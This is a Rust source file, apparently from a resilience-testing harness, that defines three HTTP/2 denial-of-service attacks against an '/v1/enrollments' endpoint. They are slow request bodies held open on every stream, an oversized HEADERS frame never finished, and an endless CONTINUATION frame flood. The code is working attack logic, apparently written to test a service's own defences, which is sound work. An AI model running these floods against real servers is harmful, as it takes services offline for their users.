//! As many streams as a connection may have, each with a request that never ends.

use std::io;
use std::sync::Arc;

use futures_util::FutureExt;

use crate::attack::{Attack, By, Node, Variant};
use crate::attacker::Attacker;
use crate::wire::http2::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, Http2, Method, NOTHING, STREAMS, frame, head, stream,
};

pub(super) static ATTACK: Attack = Attack {
    name: "HTTP/2 requests that never end",
    by: By::Stranger,
    node: Node::EMBEDDED,
    variants: &[
        Variant { name: "bodies of one byte", act: |attacker| attacker.crowd(600, bodies).boxed() },
        Variant { name: "HEADERS without END_HEADERS", act: |attacker| attacker.crowd(100, heads).boxed() },
        Variant { name: "CONTINUATION flood", act: |attacker| attacker.crowd(20, continuations).boxed() },
    ],
};

async fn bodies(attacker: Arc<Attacker>, _: usize) -> io::Result<()> {
    let mut connection = Http2::open(&attacker.dialer, &[]).await?;
    let head = head(Method::Post, "/v1/enrollments", &[]);
    let request = |n| [frame(HEADERS, END_HEADERS, stream(n), &head), frame(DATA, NOTHING, stream(n), b"{")].concat();
    connection.send(&(0..STREAMS).flat_map(request).collect::<Vec<_>>()).await?;
    connection.keep().await
}

/// 14 KiB of a head that has no end.
async fn heads(attacker: Arc<Attacker>, _: usize) -> io::Result<()> {
    let mut connection = Http2::open(&attacker.dialer, &[]).await?;
    let filler = "x".repeat(14 * 1024);
    let head = head(Method::Get, "/v1/enrollments", &[("filler", &filler)]);
    connection.send(&frame(HEADERS, NOTHING, stream(0), &head)).await?;
    connection.keep().await
}

async fn continuations(attacker: Arc<Attacker>, _: usize) -> io::Result<()> {
    let mut connection = Http2::open(&attacker.dialer, &[]).await?;
    let head = head(Method::Get, "/v1/enrollments", &[]);
    connection.send(&frame(HEADERS, NOTHING, stream(0), &head)).await?;
    let one = frame(CONTINUATION, NOTHING, stream(0), b"");
    let many = one.repeat(1000);
    loop {
        connection.send(&many).await?;
    }
}
